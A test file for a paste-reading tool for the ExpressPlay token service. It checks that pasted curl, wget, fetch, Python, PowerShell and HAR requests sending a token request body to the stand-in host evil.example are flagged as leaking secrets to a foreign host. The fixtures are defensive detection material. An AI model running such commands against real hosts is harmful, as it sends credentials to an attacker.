import { expect, test } from "vitest";
import type { PastedRequest } from "../../docs/preflight/src/logic/pasted.ts";
import { readPaste } from "../../docs/preflight/src/logic/read-paste.ts";
import { authenticator, body, context, values } from "./samples.ts";

const service = "https://wv-gen.test.expressplay.com/hms/wv/token";
const production = "wv-gen.service.expressplay.com/hms/wv/token";
const evil = "https://evil.example/token";

function requestIn(text: string): PastedRequest {
  const pasted = readPaste(text, context);
  if (pasted.kind !== "request") throw new Error(pasted.kind);
  return pasted;
}

function har(...requests: readonly object[]): string {
  return JSON.stringify({ log: { entries: requests.map((request) => ({ request })) } });
}

test.each([
  ["a query, in curl", `curl -d '${body}' '${evil}?u=1'`],
  ["a query, in curl, first", `curl -X POST "${evil}?env=test" --data "${body}"`],
  ["a query, in wget", `wget --post-data='${body}' '${evil}?y=1'`],
  ["a query, in fetch", `fetch("${evil}?y=1",{method:"POST",body:"${body}"})`],
  ["a query, in Python", `requests.post("${evil}?y=1", data="${body}")`],
  ["a query, in PowerShell", `irm -Method Post '${evil}?y=1' -Body '${body}'`],
  ["a query, in a message", `POST /x?y=1 HTTP/1.1\nHost: evil.example\n\n${body}`],
  ["a query, in a HAR file", har({ url: `${evil}?v=1`, postData: { text: body } })],
  ["a whole URL in a message", `POST ${evil} HTTP/1.1\nHost: wv-gen.test.expressplay.com\n\n${body}`],
  ["no scheme", `curl -d '${body}' evil.example/token`],
  ["no scheme, in quotes", `curl "evil.example" -sd '${body}'`],
  ["no scheme, with a port and user", `curl -d '${body}' a:b@evil.example:8080/token`],
  ["no scheme, in HTTPie", `http --form POST evil.example/token ${decodeURIComponent(body).split("&").join(" ")}`],
  ["a URL", `${evil}?${body}`],
  ["a URL in lines", `${evil}?${body.replace("&kid", "\n&kid")}`],
  ["a URL in a fence", `see\n\`\`\`\n${evil}?${body}\n\`\`\``],
  ["a header first", `curl -H 'Referer: ${service}' -d '${body}' ${evil}`],
  ["a header with its value", `curl -e ${service} -d '${body}' ${evil}`],
  ["the service first", `curl -d '${body}' ${service} ${evil}`],
  ["a GET first", har({ url: service, method: "GET" }, { url: evil, postData: { text: body } })],
  ["escaped slashes", har({ url: evil, postData: { text: body } }).replaceAll("/", "\\/")],
])("the foreign host of a command is told: %s", (_, text) => {
  const { host, losses, marks, values: read } = requestIn(text);
  expect(read).toEqual(values);
  expect(host).toMatchObject({ name: "evil.example", kind: "foreign" });
  expect(host?.said).toContain("evil.example is not a host of ExpressPlay: its secrets went somewhere else");
  expect(losses.map(({ kind, counts }) => [kind, counts])).toContainEqual(["host", true]);
  expect(marks.map(({ start, end }) => text.slice(start, end))).toContain("evil.example");
});

test.each([
  ["prose", `We post ${body} to ${evil} and get an error.`],
  ["prose after", `${evil}. We send ${body}`],
  ["lines", `URL: ${evil}\nbody: ${body}`],
  ["lines of a network panel", `Request URL: ${evil}\nRequest Method: POST\n\n${body}`],
  ["JSON", JSON.stringify({ url: evil, body })],
  ["PowerShell", `curl.exe -X POST \`\n -d "${body}" \`\n ${evil}`],
  ["a line after it", `${body}\n${evil}`],
  ["a line before it", `${evil}\n${body}`],
  ["a variable", `const url = "${evil}";\nfetch(url, { method: "POST", body: "${body}" })`],
  ["a header", `Host: evil.example\nReferer: ${service}\n\n${body}`],
  ["several", `${service} or ${evil}?\n\n${body}`],
])("the foreign host beside a request is told: %s", (_, text) => {
  const { host, losses, marks } = requestIn(text);
  expect(host).toMatchObject({ name: "evil.example", kind: "foreign" });
  expect(host?.said).toBe(
    "evil.example also stands in the text and is not a host of ExpressPlay: check that the request is not sent there.",
  );
  expect(losses.map(({ kind, counts }) => [kind, counts])).toEqual([["host", true]]);
  expect(marks.map(({ start, end }) => text.slice(start, end))).toEqual(["evil.example"]);
});

test.each([
  ["a query", `curl -d '${body}' 'https://${production}?trace=1'`, "production"],
  ["no scheme", `curl -d '${body}' ${production}`, "production"],
  ["prose", `We post ${body} to https://${production}, see https://www.expressplay.com/developer/.`, "production"],
  [
    "a file of another entry",
    har({ url: "https://cdn.acme.example/app.js" }, { url: service, postData: { text: body } }),
    "test",
  ],
  ["a header of curl", `curl -H 'Origin: https://shop.acme.example' -d '${body}' ${service}`, "test"],
  [
    "headers of fetch",
    `fetch("${service}", { "headers": { "Referer": "https://shop.example/" }, "body": "${body}" })`,
    "test",
  ],
  ["headers of PowerShell", `irm ${service} -Headers @{ Origin = "https://shop.example" } -Body '${body}'`, "test"],
  ["a value", `curl -d 'cookie=https://shop.example/' -d '${body}' ${service}`, "test"],
  ["headers beside", `${service}\nOrigin: https://shop.example\n"referer": "https://shop.example/"\n\n${body}`, "test"],
  ["the name of a file", `curl -o out.txt -d '${body}' ${service} and out.log`, "test"],
])("no host but that of the service is told: %s", (_, text, target) => {
  const { host, losses } = requestIn(text);
  expect([host?.target, host?.said, losses.map(({ kind }) => kind)]).toEqual([target, "", []]);
});

test("what is said of a host has no user info in it", () => {
  const { said } = requestIn(`curl -d '${body}' https://${authenticator.split(",").join(":")}@evil.example/`);
  expect(said).toContain("evil.example is not a host");
  expect(said).not.toContain(authenticator.slice(2));
});

const rights = service.replace("token", "rights");

test.each([
  ["curl", `curl -d '${body}' ${rights}`],
  ["curl with a query", `curl -d '${body}' '${rights}?x=1'`],
  ["curl without a path", `curl -d '${body}' wv-gen.test.expressplay.com`],
  ["curl with a port", `curl -d '${body}' https://wv-gen.test.expressplay.com:443/`],
  ["a message", `POST /hms/wv/rights HTTP/1.1\nHost: wv-gen.test.expressplay.com\n\n${body}`],
  ["a HAR file", har({ url: rights, postData: { text: body } })],
  ["a URL", `${rights}?${body}`],
  ["prose", `We post ${body} to ${rights}.`],
])("a path that the service does not have is told: %s", (_, text) => {
  const { host, losses, marks } = requestIn(text);
  expect(host?.target).toBe("test");
  expect(losses.map(({ kind, said, counts }) => [kind, said, counts])).toEqual([
    [
      "path",
      "The URL with the host wv-gen.test.expressplay.com has another path than /hms/wv/token, where a token is requested: correct the URL.",
      true,
    ],
  ]);
  expect(marks.map(({ start, end }) => text.slice(start, end))).toEqual(["wv-gen.test.expressplay.com"]);
});

test.each([
  `${service}, and see ${body}`,
  `https://wv-gen.test.expressplay.com: ${body}`,
  `> curl '${service}:' -d '${body}'`,
])("the path of the service is not told, nor one that is left out: %s", (text) => {
  expect(requestIn(text).losses).toEqual([]);
});

test.each([
  "https://",
  "https://a@b ",
  "https://a.b/",
  "curl https://a.b ",
  "curl a.",
  "\nhttps://a.b",
  "\n",
  "host: a\n",
  "origin: https://a ",
  "POST /a HTTP/1.1\n",
  '"\\"',
])("long text of %j beside a request is read in a short time", (part) => {
  const start = performance.now();
  requestIn(`${body}\n\ncurl -d '${body}' ${part.repeat(Math.floor(40_000 / part.length))}`);
  expect(performance.now() - start).toBeLessThan(5_000);
});
